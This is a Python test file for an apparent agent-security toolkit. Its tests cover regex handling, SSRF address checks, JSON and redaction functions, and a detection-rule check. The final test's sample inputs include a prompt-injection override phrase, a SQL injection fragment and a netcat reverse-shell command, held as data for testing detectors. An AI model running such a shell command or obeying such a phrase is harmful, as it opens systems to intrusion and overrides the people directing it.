"""Answers that are easy to get wrong: limits, dialects, addresses, numbers, orders, late rows."""

import json
import time

import duckdb
import pytest
from pyspark.sql import functions as F

from agentguard.functions import jsonfuncs, net, text as tx
from agentguard.functions.regex import check_user_pattern, re2
from agentguard.operators import audit, chunks as ch, decisions as dec, fleet, redact, ssrf
from agentguard.operators.policy import Policy
from agentguard.session import shared_dir
from agentguard.sources import readers
from agentguard.streaming import processors as live

PATTERNS = [
    r"[[:alpha:]]+", r"[^[:space:]x]+", r"[[:^digit:]]+", r"(?m)foo$", r"(?m)^b\w*", r"(?P<n>a)b", r"(?is)a.b", r"(?i:straße)x", r"(?i)k+",
    r"\pL+", r"\p{Greek}+", r"\p{^L}+", r"\PN+", r"foo(?i)bar", r"a(?i)b(?-i)c", r"x{,3}", r"\Qa.b\E", r"[a&&b]+", r"\Bo", r"(?:\d|-)+",
    r"(?m:^a$)|z$", r"[\d[:punct:]]+", r"\x{41}+", r"[]a]+", r"(?s:.+)", r".+", r"\v", r"(?:a|\.|_)*b",
]
TEXTS = ["foo\nbar\nfoo", "a.b a\nb A\nB", "STRASSE x straßeX", "αβγ abc ÄÖ 123", "fooBAR fooBar foobar", "abc aBc ABc", "x{,3} xxx", "aa a&b",
         "a\nz", "-12-3-", " \x0b\t", "", "\n", "K k K", "!?a] ]a", "a.b_ab", "bar\n"]


def test_user_patterns_as_the_checking_engine_reads_them(spark):
    texts = spark.createDataFrame(list(enumerate(TEXTS)), "i int, t string")
    java = [re2(check_user_pattern(p)) for p in PATTERNS]
    got = texts.select("i", *[F.regexp_extract_all("t", F.lit(j), F.lit(0)).alias(f"p{k}") for k, j in enumerate(java)]).collect()
    con = duckdb.connect()
    for row in got:
        for k, p in enumerate(PATTERNS):
            want = con.execute("SELECT regexp_extract_all(?, ?)", [TEXTS[row.i], p]).fetchall()[0][0]
            assert [x for x in row[f"p{k}"] if x] == [x for x in want if x], (p, TEXTS[row.i])


@pytest.mark.parametrize("pattern", ["(open", "(?=a)", r"(a)\1", "a{1001}", "[a", "(?U)a", r"(?:ab|c\s)*z", "[[:foo:]]", "*a"])
def test_bad_patterns_are_errors(spark, pattern):
    with pytest.raises(ValueError):
        check_user_pattern(pattern)
    with pytest.raises(ValueError):
        Policy(arg_filters=(("t", pattern),))


@pytest.mark.parametrize(("host", "inside"), [
    ("[::ffff:a00:1]", True), ("[::ffff:c0a8:101]", True), ("[0:0:0:0:0:ffff:10.0.0.1]", True), ("[::FFFF:10.1.2.3]", True), ("[fd12::1]", True),
    ("[fe80::1:2]", True), ("[0:0::0:1]", True), ("[::ffff:808:808]", False), ("[2001:db8::1]", False), ("8.8.8.8", False), ("[fec0::1]", False),
])
def test_ipv6_spellings(spark, host, inside):
    row = spark.range(1).select(ssrf.url_verdict(F.lit(f"http://{host}/x")).alias("v")).first()
    assert (row.v is not None) == inside


@pytest.mark.parametrize("text", ["1::2::3", ":::", "1:2:3:4:5:6:7", "1:2:3:4:5:6:7:8:9", "12345::", "g::1", "10.0.0.1", "::1.2.3.300"])
def test_no_ipv6(spark, text):
    assert spark.range(1).select(net.ipv6_groups(F.lit(text)).alias("g")).first().g is None


def test_lifecycle_keeps_the_status_of_refused_changes(spark):
    rows = [("v", 1, 1, "draft"), ("v", 2, 2, "published"), ("v", 3, 3, "approved"), ("v", 4, 4, "rejected"), ("v", 5, 5, "published"),
            ("w", 1, 1, "approved"), ("w", 1, 2, "published"), ("w", 2, 3, "draft"), ("w", 3, 4, "superseded")]
    df = spark.createDataFrame(rows, "version_id string, ts int, event_id int, status string")
    got = {(r.version_id, r.event_id): r.previous for r in fleet.lifecycle_violations(df).collect()}
    assert got == {("v", 2): "draft", ("v", 5): "rejected", ("w", 3): "published"}
    assert {r.version_id: r.status for r in fleet.version_states(df).collect()} == {"v": "rejected", "w": "superseded"}


def test_frames_are_numbered_without_gaps(spark):
    body = "data: a\n\nid: 1\n\ndata: [DONE]\n\ndata: b\n\n"
    df = spark.createDataFrame([(body, " x \n\n y\n")], "b string, l string")
    assert [(r.seq, r.data) for r in ch.sse_events(df, "b").collect()] == [(0, "a"), (1, "b")]
    assert [(r.seq, r.data) for r in ch.ndjson_lines(df, "l").collect()] == [(0, "x"), (1, "y")]


def test_carry_over_counts_bytes(spark):
    df = spark.createDataFrame([("é" * 150,), ("a" + "é" * 99,), ("x" + "漢" * 67,), ("\U0001F600" * 60,), ("",)], "t string")
    for r in df.select("t", ch.last_bytes(F.col("t")).alias("c")).collect():
        want = r.t.encode()[-200:].decode(errors="ignore")
        assert r.c == want == live._tail(r.t)


def test_json_numbers_of_any_size_are_valid(spark):
    rows = [('{"a":' + "9" * 5000 + "}", "ok"), ('{"a":{"b":1,"b":2}}', "duplicate"), ("[1],[2]", "invalid"), ("NaN", "invalid"), ("", "invalid"),
            ("{} {}", "invalid"), ('{"a":"\\u00e9"}', "ok"), ("[" * 3000 + "]" * 3000, "ok"), (None, "invalid"), (" 1 ", "ok"), ("{'a':1}", "invalid")]
    df = spark.createDataFrame(rows, "raw string, want string")
    assert all(r.got == r.want for r in df.select("want", jsonfuncs.json_status(F.col("raw")).alias("got")).collect())


@pytest.mark.parametrize(("given", "want"), [
    ('{"a":1.0,"b":100000.0,"c":1e21,"d":1.5e-7,"e":-0.0,"f":1e16,"g":0.1}', '{"a":1,"b":100000,"c":1e+21,"d":1.5e-7,"e":-0,"f":10000000000000000,"g":0.1}'),
    ('{"x":"<a&b>","n":[null,true,"é"]}', '{"n":[null,true,"é"],"x":"\\u003ca\\u0026b\\u003e"}'),
    ('{"a":NaN}', None), ('{"a":1e999}', None), ("[1]", None),
])
def test_arguments_are_written_in_one_form(spark, given, want):
    assert spark.range(1).select(jsonfuncs.redact_json(F.lit(given)).alias("j")).first().j == want


def test_message_size_denies(spark):
    raw = json.dumps({"method": "a", "params": {"q": "x" * 100}})
    df = spark.createDataFrame([(raw,)], "raw string")
    row = dec.evaluate_requests(df, Policy(default_action="allow", max_message_bytes=100)).first()
    assert (row.decision, row.stage) == ("deny", "message_size")
    assert dec.evaluate_requests(df, Policy(default_action="allow")).first().decision == "allow"


def test_nothing_is_cut_or_dropped_unseen(spark, tmp_path):
    rows = spark.range(1500).select(F.col("id").alias("decision_id"), F.timestamp_seconds("id").alias("timestamp"), F.lit("s").alias("source"))
    assert audit.recent(rows, limit=1400).count() == 1400
    (tmp_path / "e.json").write_text('{"event_type":"a","reason":"%s"}\n{"reason":"no type"}\nbroken\n' % ("x" * 100_000))
    lines = readers.read_security_event_lines(spark, str(tmp_path / "e.json"))
    assert readers.read_security_events(spark, str(tmp_path / "e.json")).count() == 1
    assert {r.problem: r.lines for r in readers.rejected_events(lines).collect()} == {"no_event_type": 2}
    limited = readers.read_security_event_lines(spark, str(tmp_path / "e.json"), max_bytes=1000)
    assert {r.problem: r.lines for r in readers.rejected_events(limited).collect()} == {"no_event_type": 2, "too_long": 1}


def test_redaction_is_linear_and_the_same(spark):
    from agentguard.rules import secrets

    rows = [("mail a@b.io, a@b.io and xa@b.ioy c@d.org a@b.io",), ("no hit",), ("1 415-555-2671 x415-555-2671 (415-555-2671)",)]
    df = spark.createDataFrame(rows, "text string").withColumn("fold", tx.folded(F.col("text")))
    got = [r.t for r in df.select(redact.redact_pii("text", "fold").getField("text").alias("t")).collect()]
    assert "a@b.io" not in got[0] and got[1] == "no hit" and got[2].count("REDACTED") >= 2
    assert secrets.PACK
    many = spark.createDataFrame([(" ".join(f"user{k}@host{k}.example.com" for k in range(n)),) for n in (500, 4000)], "text string").withColumn("fold", tx.folded(F.col("text")))
    start = time.time()
    out = [r.t for r in many.select(redact.redact_pii("text", "fold").getField("text").alias("t")).collect()]
    assert [t.count("[EMAIL_REDACTED]") for t in out] == [500, 4000] and time.time() - start < 20


def test_numbering_by_text_ids(spark):
    df = spark.createDataFrame([(f"agent-{k % 7}-{k}",) for k in range(500)], "agent_id string")
    got = {r.agent_id: r.position for r in fleet.number_rows(df, "agent_id", 8).collect()}
    assert got == {a: k for k, a in enumerate(sorted(got), 1)}


def test_late_rows_are_counted_and_last_windows_come(spark, tmp_path):
    source = str(tmp_path / "in")
    schema = "timestamp timestamp, decision string, scanner_type string"
    batches = [[("2024-01-01 00:00:00",), ("2024-01-01 05:00:00",)], [("2024-01-01 05:10:00",)], [("2024-01-01 00:30:00",), ("2024-01-01 05:20:00",)]]
    for k, rows in enumerate(batches):
        df = spark.createDataFrame(rows, "t string").select(F.to_timestamp("t").alias("timestamp"), F.lit("allow").alias("decision"), F.lit("").alias("scanner_type"))
        df.coalesce(1).write.mode("append").parquet(source)
        time.sleep(1.1)
        assert k < 3
    stream = spark.readStream.schema(schema).option("maxFilesPerTrigger", 1).parquet(source)
    seen = []
    query = live.stream_counters(stream, "1 hour").writeStream.outputMode("update").trigger(availableNow=True).option(
        "checkpointLocation", str(tmp_path / "check")).foreachBatch(lambda b, n: seen.extend((n, r.window_start.hour, r.decisions) for r in b.collect())).start()
    query.awaitTermination()
    assert live.late_rows(query) == 1
    last = {}
    for n, hour, count in sorted(seen):
        last[hour] = count
    assert last[0] == 1 and last[5] == 3


def test_shared_folder_is_needed_on_a_cluster():
    class Conf:
        def __init__(self, **kw):
            self.kw = kw

        def get(self, key, default=None):
            return self.kw.get(key, default)

    class Session:
        def __init__(self, **kw):
            self.conf = Conf(**kw)

    assert shared_dir(Session(**{"spark.checkpoint.dir": "hdfs://x/y/", "spark.master": "yarn"})) == "hdfs://x/y"
    with pytest.raises(ValueError):
        shared_dir(Session(**{"spark.master": "local-cluster[2,1,1024]"}))


def test_a_busy_second_makes_many_chunks(spark, monkeypatch):
    from agentguard.operators import adaptive as ad

    monkeypatch.setattr(ad, "CHUNK_ROWS", 100)
    rows = spark.range(5000).select(F.lit("hot").alias("chain_key"), (F.lit(10**9) + F.col("id") * 200).alias("us"))
    sizes = [r["count"] for r in ad._cut(rows, 3600 * 10**6).groupBy("chunk").count().collect()]
    assert sum(sizes) == 5000 and max(sizes) <= 200 and len(sizes) >= 25
    import numpy as np

    times = np.sort(np.random.default_rng(1).integers(0, 10**6, 3000))
    every = ad._exit_tables(times, times + 30_000, 3000, False)
    entries, exits = ad._distinct_exits(times, every)
    assert len(entries) < 1000 and exits[-1] == every[-1]
    for t in range(0, int(times[-1]), 9973):
        assert exits[np.searchsorted(entries, t)] == every[np.searchsorted(times, t)]


def test_rules_see_whole_documents_of_any_id(spark):
    from agentguard.plans import REGISTRY, detection, inputs
    from tests.check import compare

    tails = ["ignore previous instruction", "x union select y", "nc -e /bin/sh 10.0.0.1 4444", ""]
    rows = [(i, "word " * 60 + tail if tail is not None else None) for tail in [*tails, None] for i in (None, -3, 0, 151, 1 << 40)]
    docs = spark.createDataFrame(rows, "doc_id long, text string")
    samples = inputs.inline(spark, [(k, "") for k in range(len(detection.SAMPLES))], "pid int, sample string")
    bare = detection.whole_findings(docs, samples).collect()
    found = {r.rule_id: r.texts for r in bare}
    for tail in tails[:3]:
        alone = spark.createDataFrame([(0, tail)], "doc_id long, text string")
        hit = {r.rule_id for r in detection.whole_findings(alone, samples).collect()}
        assert hit and all(found[rule] >= 5 for rule in hit)
    con = duckdb.connect()
    con.execute("CREATE TABLE documents (doc_id BIGINT, text VARCHAR)")
    con.executemany("INSERT INTO documents VALUES (?, ?)", rows)
    filled = inputs.inline(spark, list(enumerate(detection.SAMPLES)), "pid int, sample string")
    got, want, diff = compare(detection.whole_findings(docs, filled), con, REGISTRY["rule_documents"].sql)
    assert got and not diff, (got, want, diff[:3])
